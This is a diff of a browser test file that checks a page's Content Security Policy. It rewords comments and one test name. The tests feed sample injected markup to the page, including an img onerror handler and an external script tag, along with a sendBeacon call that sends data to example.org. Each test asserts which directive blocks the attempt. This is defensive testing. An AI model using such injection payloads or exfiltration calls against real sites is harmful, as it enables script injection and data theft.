@@ -8,12 +8,12 @@ let page: Page;
 
 beforeAll(async () => {
   page = await visit('/');
-  // Here the policy is to stop something, and what it stops fails.
+  // Violations are expected here.
   page.removeAllListeners('console').removeAllListeners('pageerror');
 });
 afterAll(() => leave(page));
 
-/** The directive of the policy that stops what `act` makes the page do. */
+/** The directive that `act` violates. */
 async function stopped(act: () => Promise<unknown>): Promise<string> {
   const told = await page.evaluateHandle(() => ({
     directive: new Promise<string>((resolve) => {
@@ -28,7 +28,7 @@ async function stopped(act: () => Promise<unknown>): Promise<string> {
   return told.evaluate(({ directive }) => directive);
 }
 
-// What somebody could do whose text the page had taken for markup.
+// What injected markup could attempt.
 test.each([
   ['run a script', '<img src="x" onerror="document.title = 1">', 'script-src-attr'],
   ['fetch a script', '<script src="https://example.org/x.js"></script>', 'script-src-elem'],
@@ -46,7 +46,7 @@ test.each([
   expect(await stopped(() => page.evaluate(slipIn, markup))).toBe(directive);
 });
 
-test('a script in the page could not send what it has read to a stranger', async () => {
+test('an injected script cannot send data to another origin', async () => {
   const send = () => navigator.sendBeacon('https://example.org', 'read');
   expect(await stopped(() => page.evaluate(send))).toBe('connect-src');
 });
